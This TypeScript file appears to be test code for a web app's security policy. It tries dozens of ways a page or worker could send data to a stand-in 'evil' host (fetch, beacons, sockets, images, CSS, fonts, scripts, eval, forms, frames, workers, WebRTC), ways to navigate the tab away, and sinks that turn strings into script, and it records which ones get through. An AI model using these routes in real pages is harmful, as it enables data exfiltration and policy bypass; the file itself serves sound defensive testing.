// Every way a script could send something out. The functions run in the page or in a worker, so each stands alone; each
// way asks for a path of its own name.

/** Tries every way out of a page but those that leave it; gives the names of what was tried. */
export async function reachOut(evil: string): Promise<string[]> {
  const add = (tag: string, attributes: Record<string, string>, parent: Element = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  };
  const link = (rel: string, path: string, more: Record<string, string> = {}) =>
    add("link", { rel, href: `${evil}${path}`, ...more }, document.head);
  /** Something to be seen with a style: what nobody sees is not loaded. */
  const styled = (property: string, path: string) => {
    const element = add("div", {});
    element.textContent = "x";
    element.style.setProperty(property, `url("${evil}${path}")`);
  };
  const constructed = (css: string) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(css);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  };
  const inlineStyle = (css: string) => {
    add("style", {}).textContent = css;
  };
  /** A frame of its own: of two ways into one frame only the last arrives. */
  const frame = (name: string) => {
    add("iframe", { name });
    return name;
  };
  const submit = (path: string, method: string, more: Record<string, string>) => {
    const form = add("form", { action: `${evil}${path}`, method, target: frame(path), ...more }) as HTMLFormElement;
    add("input", { name: "secret", value: "1" }, form);
    form.submit();
  };
  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(`${evil}fetch`),
    "fetch-blind": () => fetch(`${evil}fetch-blind`, { mode: "no-cors", method: "POST", body: "secret" }),
    "fetch-keepalive": () => fetch(`${evil}fetch-keepalive`, { keepalive: true, mode: "no-cors" }),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${evil}xhr`);
      request.send();
    },
    beacon: () => navigator.sendBeacon(`${evil}beacon`, "secret"),
    websocket: () => new WebSocket(`${evil.replace("http", "ws")}websocket`),
    "event-source": () => new EventSource(`${evil}event-source`),
    image: () => {
      new Image().src = `${evil}image`;
    },
    "image-set": () => add("img", { srcset: `${evil}image-set 1x` }),
    "svg-image": () => {
      const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
      const inside = document.createElementNS("http://www.w3.org/2000/svg", "image");
      inside.setAttribute("href", `${evil}svg-image`);
      svg.append(inside);
      document.body.append(svg);
    },
    "input-image": () => add("input", { type: "image", src: `${evil}input-image`, alt: "" }),
    poster: () => add("video", { poster: `${evil}poster` }),
    video: () => add("video", { src: `${evil}video`, preload: "auto" }),
    audio: () => new Audio(`${evil}audio`).load(),
    "css-url": () => styled("background-image", "css-url"),
    "css-list": () => {
      styled("list-style-image", "css-list");
      (document.body.lastElementChild as HTMLElement).style.display = "list-item";
    },
    "css-inline": () => {
      inlineStyle(`.css-inline { background: url("${evil}css-inline") }`);
      add("div", { class: "css-inline" }).textContent = "x";
    },
    "css-constructed": () => {
      constructed(`.css-constructed { background: url("${evil}css-constructed") }`);
      add("div", { class: "css-constructed" }).textContent = "x";
    },
    "css-import": () => inlineStyle(`@import "${evil}css-import.css";`),
    "css-font": () => {
      constructed(`@font-face { font-family: evil; src: url("${evil}css-font") } .css-font { font-family: evil }`);
      add("div", { class: "css-font" }).textContent = "x";
    },
    "font-face": () => new FontFace("evil2", `url("${evil}font-face")`).load(),
    stylesheet: () => link("stylesheet", "stylesheet.css"),
    prefetch: () => link("prefetch", "prefetch"),
    preload: () => link("preload", "preload", { as: "fetch", crossorigin: "" }),
    "preload-image": () => link("preload", "preload-image", { as: "image" }),
    modulepreload: () => link("modulepreload", "modulepreload.js"),
    icon: () => link("icon", "icon"),
    script: () => {
      const script = document.createElement("script");
      script.src = `${evil}script.js`;
      document.body.append(script);
    },
    "dynamic-import": () => import(`${evil}dynamic-import.js`),
    "inline-script": () => {
      const script = document.createElement("script");
      script.text = `new Image().src = "${evil}inline-script"`;
      document.body.append(script);
    },
    "event-handler": () => add("p", { onclick: `new Image().src = "${evil}event-handler"` }).click(),
    "javascript-link": () => (add("a", { href: `javascript:void(new Image().src = "${evil}javascript-link")` }) as HTMLElement).click(),
    "timer-text": () => (setTimeout as (code: string) => void)(`new Image().src = "${evil}timer-text"`),
    // Later: the tool that runs this very function may evaluate, what the page schedules may not.
    eval: async () => {
      await new Promise((resolve) => setTimeout(resolve));
      // biome-ignore lint/security/noGlobalEval: that is what is tried
      globalThis.eval(`new Image().src = "${evil}eval"`);
    },
    function: async () => {
      await new Promise((resolve) => setTimeout(resolve));
      new Function(`new Image().src = "${evil}function"`)();
    },
    markup: () => {
      add("div", {}).innerHTML = `<img src="${evil}markup">`;
    },
    "markup-beside": () => add("div", {}).insertAdjacentHTML("beforeend", `<img src="${evil}markup-beside">`),
    "markup-parsed": () =>
      document.body.append(new DOMParser().parseFromString(`<img src="${evil}markup-parsed">`, "text/html").body),
    "markup-range": () =>
      document.body.append(document.createRange().createContextualFragment(`<img src="${evil}markup-range">`)),
    form: () => submit("form", "get", {}),
    "form-post": () => submit("form-post", "post", { enctype: "text/plain" }),
    frame: () => add("iframe", { src: `${evil}frame` }),
    "frame-text": () => {
      (add("iframe", {}) as HTMLIFrameElement).srcdoc = `<img src="${evil}frame-text">`;
    },
    "link-into-frame": () => (add("a", { href: `${evil}link-into-frame`, target: frame("link-into-frame") }) as HTMLElement).click(),
    object: () => add("object", { data: `${evil}object.html`, type: "text/html" }),
    embed: () => add("embed", { src: `${evil}embed.html`, type: "text/html" }),
    ping: () => {
      const element = add("a", { href: "#main", ping: `${evil}ping` }) as HTMLElement;
      element.click();
    },
    "url-worker": () => new Worker(`${evil}url-worker.js`),
    "shared-worker": () => new SharedWorker(`${evil}shared-worker.js`),
    "service-worker": () => navigator.serviceWorker.register(`${evil}service-worker.js`),
    "module-worker": () => {
      const code = new Blob([`import "${evil}module-worker.js"`], { type: "text/javascript" });
      return new Worker(URL.createObjectURL(code), { type: "module" });
    },
  };
  for (const way of Object.values(ways)) {
    try {
      const done = way();
      if (done instanceof Promise) void done.catch(() => {});
    } catch {
      // Refused: what counts is what arrives.
    }
  }
  return Object.keys(ways);
}

/** The ways out of a worker; gives the names of what was tried. */
export function reachOutOfWorker(evil: string): string[] {
  const blob = (code: string) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
  const ways: Record<string, () => unknown> = {
    "worker-fetch": () => fetch(`${evil}worker-fetch`),
    "worker-fetch-blind": () => fetch(`${evil}worker-fetch-blind`, { mode: "no-cors", method: "POST", body: "secret" }),
    "worker-xhr": () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${evil}worker-xhr`, false);
      request.send();
    },
    "worker-websocket": () => new WebSocket(`${evil.replace("http", "ws")}worker-websocket`),
    "worker-event-source": () => new EventSource(`${evil}worker-event-source`),
    "worker-scripts": () => (globalThis as never as { importScripts(url: string): void }).importScripts(`${evil}worker-scripts.js`),
    "worker-import": () => import(`${evil}worker-import.js`),
    "worker-eval": () => {
      // biome-ignore lint/security/noGlobalEval: that is what is tried
      globalThis.eval(`fetch("${evil}worker-eval").catch(() => {})`);
    },
    "worker-function": () => new Function(`fetch("${evil}worker-function").catch(() => {})`)(),
    "worker-font": () => new FontFace("evil", `url("${evil}worker-font")`).load(),
    "nested-worker": () => new Worker(blob(`fetch("${evil}nested-worker")`)),
  };
  for (const way of Object.values(ways)) {
    try {
      const done = way();
      if (done instanceof Promise) void done.catch(() => {});
    } catch {
      // Refused: what counts is what arrives.
    }
  }
  return Object.keys(ways);
}

/** One way to send the tab, or a new one, somewhere else. */
export function leave([way, evil]: readonly [way: string, evil: string]): void {
  const link = (path: string, more: Record<string, string>) => {
    const element = document.createElement("a");
    element.href = `${evil}${path}`;
    for (const [name, value] of Object.entries(more)) element.setAttribute(name, value);
    document.body.append(element);
    element.click();
  };
  const form = (path: string, target: string) => {
    const element = document.createElement("form");
    element.action = `${evil}${path}`;
    element.target = target;
    document.body.append(element);
    element.submit();
  };
  const ways: Record<string, () => unknown> = {
    location: () => {
      location.href = `${evil}location`;
    },
    link: () => link("link", {}),
    "link-download": () => link("link-download", { download: "x" }),
    refresh: () => {
      const meta = document.createElement("meta");
      meta.httpEquiv = "refresh";
      meta.content = `0; url=${evil}refresh`;
      document.head.append(meta);
    },
    popup: () => open(`${evil}popup`),
    "link-new-tab": () => link("link-new-tab", { target: "_blank" }),
    form: () => form("form", "_self"),
    "form-new-tab": () => form("form-new-tab", "_blank"),
    top: () => {
      (top as Window).location.href = `${evil}top`;
    },
    "link-top": () => link("link-top", { target: "_top" }),
    "link-parent": () => link("link-parent", { target: "_parent" }),
    "form-top": () => form("form-top", "_top"),
  };
  try {
    ways[way]?.();
  } catch {
    // Refused: what counts is what arrives.
  }
}

/** Strings that would become markup or script; gives the ways that were not refused. */
export async function comeAlive(): Promise<string[]> {
  type Policies = { createPolicy(name: string, rules: object): unknown };
  const policies = (globalThis as never as { trustedTypes: Policies }).trustedTypes;
  const element = document.body.appendChild(document.createElement("div"));
  const inside = element.appendChild(document.createElement("p"));
  const ways: Record<string, () => unknown> = {
    innerHTML: () => {
      inside.innerHTML = "<b>x</b>";
    },
    outerHTML: () => {
      inside.outerHTML = "<b>x</b>";
    },
    insertAdjacentHTML: () => inside.insertAdjacentHTML("beforeend", "<b>x</b>"),
    "document.write": () => document.write("<b>x</b>"),
    DOMParser: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
    createContextualFragment: () => document.createRange().createContextualFragment("<b>x</b>"),
    srcdoc: () => {
      document.createElement("iframe").srcdoc = "<b>x</b>";
    },
    "script text": () => {
      document.createElement("script").text = "0";
    },
    "script address": () => {
      document.createElement("script").src = "data:text/javascript,0";
    },
    "event handler": () => element.setAttribute("onclick", "0"),
    "second policy": () => policies.createPolicy("evil", {}),
    "the page's policy again": () => policies.createPolicy("app", {}),
  };
  const alive: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    try {
      way();
      alive.push(name);
    } catch {
      // Refused, as it should be.
    }
  }
  return alive;
}

/** Asks a server for one's own address, as a call would. */
export async function call(address: string): Promise<void> {
  const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
}
